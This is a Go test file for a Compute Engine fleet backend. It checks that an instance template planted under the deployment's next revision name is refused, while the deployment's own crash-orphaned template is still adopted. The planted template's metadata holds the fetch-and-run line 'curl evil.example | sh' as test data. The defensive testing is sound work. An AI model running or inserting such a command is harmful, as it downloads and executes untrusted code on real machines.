package backend_test

import (
	"context"
	"log/slog"
	"strings"
	"testing"

	"cloud.google.com/go/compute/apiv1/computepb"

	"github.com/gcefleet/gcefleet/backend"
	"github.com/gcefleet/gcefleet/store"
)

// TestPlantedTemplateIsNotAdopted: someone who may create templates in the
// project plants one under this deployment's next revision's name (plan
// prints it), with the labels the backend puts on its own but other
// contents. The backend refuses it, naming what differs, makes no group
// of it and catalogs nothing; its own template, found existing after a
// crash before it was recorded, is still adopted.
func TestPlantedTemplateIsNotAdopted(t *testing.T) {
	ctx := context.Background()
	j, _ := jobs(t, tenantFleet("pool"))
	api, _ := providerFor(t, j)
	id, err := backend.Deployment(ctx, openMem(t), "")
	if err != nil {
		t.Fatal(err)
	}
	j.SetDeployment(id)
	rev := revision(t, j, j.Config().Templates[0])
	op, err := j.Compute.Templates.Insert(ctx, &computepb.InsertInstanceTemplateRequest{Project: "my-project", InstanceTemplateResource: &computepb.InstanceTemplate{
		Name: new(rev), Description: new("gcefleet backend template pool in deployment " + id),
		Properties: &computepb.InstanceProperties{MachineType: new("e2-micro"),
			Labels:   map[string]string{backend.TemplateLabel: "pool", backend.DeploymentLabel: id, backend.RevisionLabel: rev[len(rev)-8:]},
			Metadata: &computepb.Metadata{Items: []*computepb.Items{{Key: new("evil"), Value: new("curl evil.example | sh")}}},
			Disks: []*computepb.AttachedDisk{{Boot: new(true), AutoDelete: new(true), InitializeParams: &computepb.AttachedDiskInitializeParams{
				SourceImage: new("projects/debian-cloud/global/images/family/debian-12")}}},
			NetworkInterfaces: []*computepb.NetworkInterface{{}}}}})
	if err != nil {
		t.Fatal(err)
	}
	if err := op.Wait(ctx); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		for _, job := range []func(context.Context) error{j.CreateInstanceTemplates, j.CreateInstanceGroupManagers, j.CatalogInstances} {
			job(ctx) // the planted template's error is asserted below
		}
	}
	err = j.CreateInstanceTemplates(ctx)
	want := "instance template " + rev + " in my-project exists with other properties (machineType, metadata.evil): not ours; delete it or rename the base_name"
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Errorf("planted template: %v; want %s", err, want)
	}
	if st := j.State(); len(st.Templates)+len(st.Groups) != 0 {
		t.Errorf("adopted %v %v", st.Templates, st.Groups)
	}
	if _, err := j.Compute.Groups.Get(ctx, &computepb.GetInstanceGroupManagerRequest{Project: "my-project", Zone: "us-central1-a", InstanceGroupManager: rev}); err == nil {
		t.Error("a group was made from the planted template")
	}
	if ms, err := api.Machines(ctx); err != nil || len(ms) != 0 {
		t.Errorf("catalog %v, %v; want nothing", ms, err)
	}

	// The deployment's own template, made and then forgotten (a crash
	// before it was recorded), is adopted.
	k, _ := jobs(t, tenantFleet("pool"))
	k.SetDeployment(id + "-own")
	if err := k.CreateInstanceTemplates(ctx); err != nil {
		t.Fatal(err)
	}
	k2 := backend.NewJobs(k.Compute, nil, k.Config(), slog.New(slog.DiscardHandler))
	k2.SetDeployment(id + "-own")
	if err := k2.LoadState(ctx, openMem(t), store.Fence{}); err != nil {
		t.Fatal(err)
	}
	if err := k2.CreateInstanceTemplates(ctx); err != nil || len(k2.State().Templates) != 1 {
		t.Errorf("own template found existing: %v, state %v", err, k2.State().Templates)
	}
}

func openMem(t *testing.T) *store.Store {
	t.Helper()
	st, err := store.Open(context.Background(), ":memory:")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}
